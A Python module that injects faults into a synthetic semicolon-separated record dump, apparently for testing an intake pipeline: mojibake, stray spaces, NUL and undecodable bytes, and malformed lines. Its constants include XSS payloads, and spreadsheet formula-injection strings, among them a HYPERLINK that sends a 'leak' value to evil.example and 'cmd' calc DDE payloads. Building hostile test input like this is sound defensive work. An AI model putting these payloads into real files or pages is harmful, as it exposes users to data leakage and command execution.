"""Faults injected into the synthetic dump: text damage, hostile values and malformed lines.

Malformed physical lines follow the record-splitting rules of docs/contracts.md §4: each is one
line with normal records around it, and exactly one reason applies (``nul_byte``,
``undecodable``, ``blank_line``, ``unbalanced_quote``, ``extra_fields``, ``missing_fields``).
An unbalanced-quote line is placed so that no ``"`` occurs on the next 51 physical lines: the
quote cannot close within 50 lines, so intake quarantines that line alone.
"""

from __future__ import annotations

import numpy as np
import polars as pl

MALFORMED_REASONS = (
    "extra_fields",
    "missing_fields",
    "unbalanced_quote",
    "nul_byte",
    "undecodable",
    "blank_line",
)
#: Malformed lines per million data rows, and the minimum count of each (so small samples have all).
MALFORMED_PER_MILLION = {
    "extra_fields": 30,
    "missing_fields": 30,
    "unbalanced_quote": 12,
    "nul_byte": 6,
    "undecodable": 20,
    "blank_line": 8,
}
MALFORMED_MIN = {
    "extra_fields": 2,
    "missing_fields": 2,
    "unbalanced_quote": 1,
    "nul_byte": 1,
    "undecodable": 5,
    "blank_line": 1,
}
#: Bytes undefined in Windows-1252.
UNDECODABLE_BYTES = (0x81, 0x8D, 0x8F, 0x90, 0x9D)
#: Physical lines after an unbalanced quote that must hold no quote character.
QUOTE_FREE_WINDOW = 51

HTML_VALUES = ("<script>alert(1)</script>", "<img src=x onerror=alert(document.domain)>")
FORMULA_VALUES = (
    '=HYPERLINK("http://evil.example/x?leak=1","Voir résultats")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
)
LONG_FIELD_CHARS = 100_000


def malformed_counts(rows: int) -> dict[str, int]:
    """Number of malformed lines of each reason for a dump of ``rows`` data rows."""
    return {
        r: max(MALFORMED_MIN[r], int(round(MALFORMED_PER_MILLION[r] * rows / 1e6)))
        for r in MALFORMED_REASONS
    }


def mojibake(s: pl.Series) -> pl.Series:
    """UTF-8 bytes read as Windows-1252 (``Hélène`` -> ``HÃ©lÃ¨ne``); values that cannot round-trip
    (bytes undefined in cp1252) are returned unchanged (callers check with ``!=``)."""
    uniq = s.drop_nulls().unique(maintain_order=True).to_list()
    mapping = {}
    for v in uniq:
        try:
            mapping[v] = v.encode("utf-8").decode("cp1252")
        except UnicodeDecodeError:
            mapping[v] = v
    return s.replace_strict(mapping, default=s, return_dtype=pl.String)


def stray_spaces(rng: np.random.Generator, s: pl.Series) -> pl.Series:
    """Add a leading, trailing or doubled inner space (3 kinds, uniform)."""
    k = rng.integers(0, 3, len(s))
    return pl.DataFrame({"v": s, "k": k}).select(
        pl.when(pl.col("k") == 0)
        .then(pl.concat_str(pl.lit(" "), "v"))
        .when(pl.col("k") == 1)
        .then(pl.concat_str("v", pl.lit("  ")))
        .otherwise(pl.concat_str(pl.lit(" "), "v", pl.lit(" ")))
        .alias("v")
    )["v"]


def place_malformed(
    rng: np.random.Generator,
    n_records: int,
    counts: dict[str, int],
    quote_free: np.ndarray,
) -> list[tuple[int, str]]:
    """Choose where malformed lines go: ``(gap, reason)``, gap ``g`` = before record ``g``.

    Gaps are at least 3 records apart and away from both ends; an unbalanced-quote line needs
    the next ``QUOTE_FREE_WINDOW`` records to be single-line and quote-free (``quote_free``)
    and no other malformed line among them.

    Returns the placements sorted by gap.
    """
    qf = quote_free.astype(np.int64)
    csum = np.concatenate([[0], np.cumsum(qf)])
    w = QUOTE_FREE_WINDOW
    ok_window = np.zeros(n_records + 1, dtype=bool)
    if n_records > w:
        g = np.arange(0, n_records - w + 1)
        ok_window[g] = (csum[g + w] - csum[g]) == w
    taken: list[tuple[int, str]] = []
    blocked = np.zeros(n_records + 1, dtype=bool)
    blocked[:3] = True
    blocked[max(0, n_records - 3) :] = True
    order = [r for r in MALFORMED_REASONS if r == "unbalanced_quote"] + [
        r for r in MALFORMED_REASONS if r != "unbalanced_quote"
    ]
    for reason in order:
        for _ in range(counts[reason]):
            cand_ok = ~blocked & (ok_window if reason == "unbalanced_quote" else True)
            cands = np.flatnonzero(cand_ok)
            if len(cands) == 0:
                raise RuntimeError(f"no room for a {reason} line; generate more rows")
            gap = int(cands[rng.integers(0, len(cands))])
            taken.append((gap, reason))
            lo = max(0, gap - 3)
            hi = gap + (w + 2 if reason == "unbalanced_quote" else 3)
            blocked[lo : hi + 1] = True
    taken.sort()
    return taken


def malformed_line(
    reason: str, fields: list[str], comment_index: int, name_index: int, bad_byte: int
) -> bytes:
    """Bytes (with CRLF) of one malformed line built from a quote-free row's field values."""
    f = list(fields)
    if reason == "blank_line":
        return b"\r\n"
    if reason == "extra_fields":
        return (";".join(f) + ";1").encode("cp1252") + b"\r\n"
    if reason == "missing_fields":
        return ";".join(f[:-5]).encode("cp1252") + b"\r\n"
    if reason == "unbalanced_quote":
        f[comment_index] = '"' + (f[comment_index] or "patient à jeun")
        return ";".join(f).encode("cp1252") + b"\r\n"
    if reason == "nul_byte":
        v = f[name_index] or "X"
        f[name_index] = v[: len(v) // 2] + "\x00" + v[len(v) // 2 :]
        return ";".join(f).encode("cp1252") + b"\r\n"
    if reason == "undecodable":
        head = ";".join(f[: name_index + 1]).encode("cp1252")
        tail = ";".join(f[name_index + 1 :]).encode("cp1252")
        return head + bytes([bad_byte]) + b";" + tail + b"\r\n"
    raise ValueError(reason)
